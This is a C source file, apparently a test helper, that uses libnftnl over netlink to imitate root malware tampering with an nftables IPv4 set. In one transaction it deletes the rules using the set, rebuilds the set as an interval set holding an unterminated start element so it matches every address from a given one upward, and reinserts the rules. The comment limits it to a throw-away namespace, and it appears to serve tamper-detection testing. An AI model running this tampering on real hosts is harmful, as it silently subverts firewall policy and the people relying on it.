/*
 * setswap TABLE SET ADDR: what root malware does to a plain IPv4 set of
 * "inet TABLE" in ONE transaction (t-tamper-flags): every rule that looks
 * SET up deleted, SET deleted and made anew with flags interval, the same
 * rules (their expressions as the kernel lists them) inserted again where
 * they were, and one interval start ADDR without an end element.  The
 * kernel then matches every address from ADDR up, and lists one element
 * with flags 0.  nft(8) cannot write this (it adds an end at 0.0.0.0).
 * Run it in a throw-away network namespace only.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <arpa/inet.h>

#include <libmnl/libmnl.h>
#include <linux/netfilter.h>
#include <linux/netfilter/nf_tables.h>
#include <libnftnl/batch.h>
#include <libnftnl/common.h>
#include <libnftnl/expr.h>
#include <libnftnl/rule.h>
#include <libnftnl/set.h>

#define MAX_RULES	512

static struct nftnl_rule *rules[MAX_RULES];
static size_t nrules;

static int
rule_cb(const struct nlmsghdr *nlh, void *data)
{
	struct nftnl_rule *r = nftnl_rule_alloc();

	(void)data;
	if (r == NULL || nftnl_rule_nlmsg_parse(nlh, r) < 0 ||
	    nrules >= MAX_RULES) {
		nftnl_rule_free(r);
		return MNL_CB_ERROR;
	}
	rules[nrules++] = r;
	return MNL_CB_OK;
}

/* Does r look up the set called name? */
static bool
uses(struct nftnl_rule *r, const char *name)
{
	struct nftnl_expr_iter *it = nftnl_expr_iter_create(r);
	struct nftnl_expr *e;
	bool found = false;

	while (it != NULL && (e = nftnl_expr_iter_next(it)) != NULL)
		if (strcmp(nftnl_expr_get_str(e, NFTNL_EXPR_NAME), "lookup") == 0 &&
		    strcmp(nftnl_expr_get_str(e, NFTNL_EXPR_LOOKUP_SET), name) == 0)
			found = true;
	nftnl_expr_iter_destroy(it);
	return found;
}

/* The handle of the first rule after i in i's chain that does not use name, or 0. */
static uint64_t
next_other(size_t i, const char *name)
{
	const char *chain = nftnl_rule_get_str(rules[i], NFTNL_RULE_CHAIN);
	size_t k;

	for (k = i + 1; k < nrules; k++)
		if (strcmp(nftnl_rule_get_str(rules[k], NFTNL_RULE_CHAIN),
		    chain) == 0 && !uses(rules[k], name))
			return nftnl_rule_get_u64(rules[k], NFTNL_RULE_HANDLE);
	return 0;
}

static char batchbuf[1 << 20];

int
main(int argc, char **argv)
{
	char buf[MNL_SOCKET_BUFFER_SIZE];
	struct mnl_socket *nl;
	struct mnl_nlmsg_batch *b;
	struct nlmsghdr *nlh;
	struct nftnl_rule *q;
	struct nftnl_set *s;
	struct nftnl_set_elem *el;
	uint32_t seq = (uint32_t)time(NULL), portid, key, first;
	uint64_t pos[MAX_RULES];
	size_t i, nused = 0;
	int ret;

	if (argc != 4 || inet_pton(AF_INET, argv[3], &key) != 1) {
		fprintf(stderr, "usage: setswap TABLE SET IPV4\n");
		return 2;
	}
	nl = mnl_socket_open(NETLINK_NETFILTER);
	if (nl == NULL || mnl_socket_bind(nl, 0, MNL_SOCKET_AUTOPID) < 0) {
		perror("setswap: netlink");
		return 1;
	}
	portid = mnl_socket_get_portid(nl);

	/* the table's rules, in kernel order */
	q = nftnl_rule_alloc();
	nftnl_rule_set_str(q, NFTNL_RULE_TABLE, argv[1]);
	nlh = nftnl_nlmsg_build_hdr(buf, NFT_MSG_GETRULE, NFPROTO_INET,
	    NLM_F_DUMP, first = seq++);
	nftnl_rule_nlmsg_build_payload(nlh, q);
	nftnl_rule_free(q);
	if (mnl_socket_sendto(nl, nlh, nlh->nlmsg_len) < 0)
		return 1;
	for (i = 0; i < 10000; i++) {
		ret = (int)mnl_socket_recvfrom(nl, buf, sizeof(buf));
		if (ret <= 0)
			return 1;
		ret = mnl_cb_run(buf, (size_t)ret, first, portid, rule_cb, NULL);
		if (ret <= MNL_CB_STOP)
			break;
	}
	if (ret < 0) {
		perror("setswap: listing rules");
		return 1;
	}
	for (i = 0; i < nrules; i++) {
		pos[i] = 0;
		if (!uses(rules[i], argv[2]))
			continue;
		if ((pos[i] = next_other(i, argv[2])) == 0) {
			fprintf(stderr, "setswap: a rule using %s ends its chain\n",
			    argv[2]);
			return 1;
		}
		nused++;
	}
	if (nused == 0) {
		fprintf(stderr, "setswap: no rule uses %s\n", argv[2]);
		return 1;
	}

	b = mnl_nlmsg_batch_start(batchbuf, sizeof(batchbuf));
	nftnl_batch_begin(mnl_nlmsg_batch_current(b), seq++);
	mnl_nlmsg_batch_next(b);
	for (i = 0; i < nrules; i++) {
		if (pos[i] == 0)
			continue;
		nlh = nftnl_nlmsg_build_hdr(mnl_nlmsg_batch_current(b),
		    NFT_MSG_DELRULE, NFPROTO_INET, 0, seq++);
		q = nftnl_rule_alloc();
		nftnl_rule_set_str(q, NFTNL_RULE_TABLE, argv[1]);
		nftnl_rule_set_str(q, NFTNL_RULE_CHAIN,
		    nftnl_rule_get_str(rules[i], NFTNL_RULE_CHAIN));
		nftnl_rule_set_u64(q, NFTNL_RULE_HANDLE,
		    nftnl_rule_get_u64(rules[i], NFTNL_RULE_HANDLE));
		nftnl_rule_nlmsg_build_payload(nlh, q);
		nftnl_rule_free(q);
		mnl_nlmsg_batch_next(b);
	}
	s = nftnl_set_alloc();
	nftnl_set_set_str(s, NFTNL_SET_TABLE, argv[1]);
	nftnl_set_set_str(s, NFTNL_SET_NAME, argv[2]);
	nlh = nftnl_nlmsg_build_hdr(mnl_nlmsg_batch_current(b), NFT_MSG_DELSET,
	    NFPROTO_INET, 0, seq++);
	nftnl_set_nlmsg_build_payload(nlh, s);
	mnl_nlmsg_batch_next(b);
	nftnl_set_set_u32(s, NFTNL_SET_KEY_TYPE, 7);	/* ipv4_addr */
	nftnl_set_set_u32(s, NFTNL_SET_KEY_LEN, 4);
	nftnl_set_set_u32(s, NFTNL_SET_FLAGS, NFT_SET_INTERVAL);
	nftnl_set_set_u32(s, NFTNL_SET_ID, 1);
	nlh = nftnl_nlmsg_build_hdr(mnl_nlmsg_batch_current(b), NFT_MSG_NEWSET,
	    NFPROTO_INET, NLM_F_CREATE, seq++);
	nftnl_set_nlmsg_build_payload(nlh, s);
	mnl_nlmsg_batch_next(b);
	/* the interval start, and no end */
	el = nftnl_set_elem_alloc();
	nftnl_set_elem_set(el, NFTNL_SET_ELEM_KEY, &key, sizeof(key));
	nftnl_set_elem_add(s, el);
	nlh = nftnl_nlmsg_build_hdr(mnl_nlmsg_batch_current(b),
	    NFT_MSG_NEWSETELEM, NFPROTO_INET, NLM_F_CREATE, seq++);
	nftnl_set_elems_nlmsg_build_payload(nlh, s);
	mnl_nlmsg_batch_next(b);
	nftnl_set_free(s);
	/* the same rules, each in front of the rule that followed it */
	for (i = 0; i < nrules; i++) {
		if (pos[i] == 0)
			continue;
		nftnl_rule_unset(rules[i], NFTNL_RULE_HANDLE);
		nftnl_rule_set_u64(rules[i], NFTNL_RULE_POSITION, pos[i]);
		nlh = nftnl_nlmsg_build_hdr(mnl_nlmsg_batch_current(b),
		    NFT_MSG_NEWRULE, NFPROTO_INET, NLM_F_CREATE, seq++);
		nftnl_rule_nlmsg_build_payload(nlh, rules[i]);
		mnl_nlmsg_batch_next(b);
	}
	nftnl_batch_end(mnl_nlmsg_batch_current(b), seq++);
	mnl_nlmsg_batch_next(b);
	if (mnl_socket_sendto(nl, mnl_nlmsg_batch_head(b),
	    mnl_nlmsg_batch_size(b)) < 0) {
		perror("setswap: send");
		return 1;
	}
	/* errors only (no NLM_F_ACK): wait for one briefly */
	{
		struct timeval tv = { .tv_sec = 0, .tv_usec = 300000 };

		setsockopt(mnl_socket_get_fd(nl), SOL_SOCKET, SO_RCVTIMEO, &tv,
		    sizeof(tv));
	}
	ret = (int)mnl_socket_recvfrom(nl, buf, sizeof(buf));
	if (ret > 0 && mnl_cb_run(buf, (size_t)ret, 0, portid, NULL,
	    NULL) < 0) {
		perror("setswap: the kernel refused the transaction");
		return 1;
	}
	printf("swapped %s: %zu rules\n", argv[2], nused);
	for (i = 0; i < nrules; i++)
		nftnl_rule_free(rules[i]);
	mnl_nlmsg_batch_stop(b);
	mnl_socket_close(nl);
	return 0;
}
